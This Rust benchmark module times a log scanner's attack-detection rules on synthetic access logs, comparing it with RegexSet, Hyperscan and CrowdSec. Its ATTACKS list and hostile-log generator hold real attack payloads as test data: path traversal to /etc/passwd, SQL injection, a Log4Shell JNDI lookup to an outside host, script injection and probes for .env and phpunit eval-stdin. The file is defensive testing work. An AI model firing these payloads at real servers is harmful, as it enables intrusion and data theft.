//! How fast is a log searched for attacks, beside others with the same patterns?

mod peers;
mod rotated;

use std::fmt::Write as _;
use std::hint::black_box;
use std::time::Instant;

use anyhow::{Result, ensure};
use regex::{RegexSet, RegexSetBuilder};
use tripoint_evidence::attempt;
use tripoint_evidence::log::FORMATS;
use tripoint_evidence::scan::{Options, scan};
use tripoint_evidence::stamp::Clock;
use tripoint_model::Timestamp;

use crate::Figure;

/// Bytes of the log.
const BYTES: usize = 64 << 20;
/// Of the log that peers get that are too slow for the whole.
const PART_BYTES: usize = 2 << 20;

pub fn run() -> Result<Vec<Figure>> {
    let ordinary = access_log(BYTES, &|seed| seed.is_multiple_of(200));
    let hostile = hostile_log(BYTES / 4);
    let mut figures = vec![
        Figure::count("rules", attempt::pack().len(), "rules"),
        Figure::new("log", ordinary.len() as f64 / 1e6, "MB"),
    ];
    let (ours, hits) = best(3, &ordinary, &mut scanned);
    figures.push(Figure::new("scan", ours, "MB/s"));
    figures.push(Figure::count("findings", hits, "findings"));
    let lines = ordinary.bytes().filter(|byte| *byte == b'\n').count();
    let lines_a_second = ours * 1e6 * lines as f64 / ordinary.len() as f64;
    figures.push(Figure::new("scan", lines_a_second, "lines/s"));
    let (worst, _) = best(2, &hostile, &mut scanned);
    figures.push(Figure::new("scan, hostile", worst, "MB/s"));
    figures.push(Figure::new("hostile, share of ordinary", worst / ours, ""));
    let part = &ordinary[..ordinary[..PART_BYTES].rfind('\n').unwrap_or(0) + 1];
    let set = set()?;
    let (peer, _) = best(1, part, &mut |log| log.lines().map(|line| set.matches(line).iter().count()).sum());
    figures.push(Figure::new("regex::RegexSet", peer, "MB/s"));
    figures.push(Figure::new("scan by RegexSet", ours / peer, "times"));
    let (alone, found) = best(1, part, &mut one_by_one);
    figures.push(Figure::new("each rule alone", alone, "MB/s"));
    let (_, together) = best(1, part, &mut all_at_once);
    ensure!(found == together, "all at once {together} rules match, each alone {found}");
    let file = tempfile::NamedTempFile::new()?;
    std::fs::write(file.path(), &ordinary)?;
    match peers::hyperscan(file.path())? {
        Some((peer, refused)) => {
            figures.push(Figure::new("Hyperscan, the same patterns, lines as they stand", peer, "MB/s"));
            figures.push(Figure::count("patterns that Hyperscan refuses", refused, "patterns"));
            figures.push(Figure::new("scan by Hyperscan", ours / peer, "times"));
        }
        None => eprintln!("skipped: the Python module hyperscan is not installed"),
    }
    match peers::crowdsec(&ordinary)? {
        Some(peer) => {
            figures.push(Figure::new("CrowdSec", peer, "lines/s"));
            figures.push(Figure::new("scan by CrowdSec", lines_a_second / peer, "times"));
        }
        None => eprintln!("skipped: CROWDSEC_CONFIG names no configuration of CrowdSec"),
    }
    figures.extend(rotated::run(&ordinary)?);
    Ok(figures)
}

/// Megabytes a second, of the best of some runs; and what came of one.
fn best(runs: usize, log: &str, read: &mut dyn FnMut(&str) -> usize) -> (f64, usize) {
    let (mut rate, mut found) = (0.0_f64, 0);
    for _ in 0..runs {
        let started = Instant::now();
        found = black_box(read(black_box(log)));
        rate = rate.max(log.len() as f64 / 1e6 / started.elapsed().as_secs_f64());
    }
    (rate, found)
}

fn scanned(log: &str) -> usize {
    let mut hits = 0;
    let options = Options { format: None, clock: Clock::at(Timestamp(0)), pack: attempt::pack(), is_proxy: &|_| false };
    scan(log.as_bytes(), "access.log", &options, &mut |_| hits += 1).map_or(0, |_| hits)
}

fn one_by_one(log: &str) -> usize {
    let clock = Clock::at(Timestamp(0));
    let entries = log.lines().filter_map(|line| FORMATS[0].read(line, &clock));
    entries.map(|entry| attempt::pack().matching_one_by_one(&entry).len()).sum()
}

fn all_at_once(log: &str) -> usize {
    let clock = Clock::at(Timestamp(0));
    let entries = log.lines().filter_map(|line| FORMATS[0].read(line, &clock));
    entries.map(|entry| attempt::pack().matching(&entry).len()).sum()
}

/// The patterns of the pack as one set, with room enough for its automaton.
fn set() -> Result<RegexSet> {
    let patterns = attempt::pack().rules().map(|rule| rule.pattern.as_str());
    let mut builder = RegexSetBuilder::new(patterns);
    Ok(builder.case_insensitive(true).multi_line(true).size_limit(1 << 30).dfa_size_limit(256 << 20).build()?)
}

/// An access log of so many bytes; `is_attack` says of each line's number whether it shows one.
fn access_log(bytes: usize, is_attack: &dyn Fn(u64) -> bool) -> String {
    let mut log = String::with_capacity(bytes + 512);
    let mut number = 0_u64;
    while log.len() < bytes {
        number += 1;
        let seed = mixed(number);
        let pick = |list: &[&'static str], shift: u32| list[(seed >> shift) as usize % list.len()];
        let target = if is_attack(number) { pick(ATTACKS, 8) } else { pick(TARGETS, 8) };
        let _ = writeln!(
            log,
            "198.51.100.{} - - [{:02}/Oct/2025:{:02}:{:02}:{:02} +0000] \"{} {target}{} HTTP/1.1\" {} {} \"{}\" \"{}\"",
            seed & 255,
            1 + (seed >> 40) % 28,
            (seed >> 44) % 24,
            (seed >> 48) % 60,
            (seed >> 52) % 60,
            pick(&["GET", "GET", "GET", "POST", "HEAD"], 3),
            if target.contains('?') { String::new() } else { format!("/{:x}", seed & 0xfffff) },
            pick(&["200", "200", "304", "404", "302"], 5),
            seed >> 44,
            pick(REFERERS, 16),
            pick(AGENTS, 24),
        );
    }
    log
}

/// Lines that are attacks, nearly are, or are encoded many times.
fn hostile_log(bytes: usize) -> String {
    let mut log = String::with_capacity(bytes + 4096);
    let mut number = 0_u64;
    while log.len() < bytes {
        number += 1;
        let seed = mixed(number);
        let target = match number % 4 {
            0 => format!("/a?x={}", "%2525252e".repeat(1 + (seed % 90) as usize)),
            1 => format!("/a?x={}", "' or (select ".repeat(1 + (seed % 60) as usize)),
            2 => format!("/a?x={}", "<script ${jndi:".repeat(1 + (seed % 50) as usize)),
            _ => format!("/a?x={}", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg/".repeat(1 + (seed % 20) as usize)),
        };
        let _ = writeln!(
            log,
            "203.0.113.{} - - [10/Oct/2025:13:55:36 +0000] \"GET {target} HTTP/1.1\" 404 12 \"-\" \"curl/8\"",
            seed & 255
        );
    }
    log
}

fn mixed(number: u64) -> u64 {
    let mut x = number.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

const TARGETS: &[&str] = &[
    "/",
    "/assets/css/site.css",
    "/assets/js/app.min.js?v=4f2a91",
    "/images/products/thumb",
    "/api/v2/orders",
    "/api/v2/orders?page=3&limit=50&sort=-created",
    "/blog/2025/10/how-we-moved",
    "/search?q=garden+chairs&category=outdoor",
    "/login?next=%2Faccount%2Fsettings",
    "/static/fonts/inter.woff2",
    "/feed.xml",
    "/favicon.ico",
    "/products/oak-table-180x90",
    "/cart/add?sku=AB-1294&qty=2",
];

const ATTACKS: &[&str] = &[
    "/a?f=../../../etc/passwd",
    "/a?id=1+UNION+SELECT+1,2",
    "/?x=${jndi:ldap://203.0.113.7/a}",
    "/a?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/.env",
];

const REFERERS: &[&str] =
    &["-", "-", "https://www.example.org/", "https://search.example/", "https://www.example.org/blog/2025/10/"];

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
];
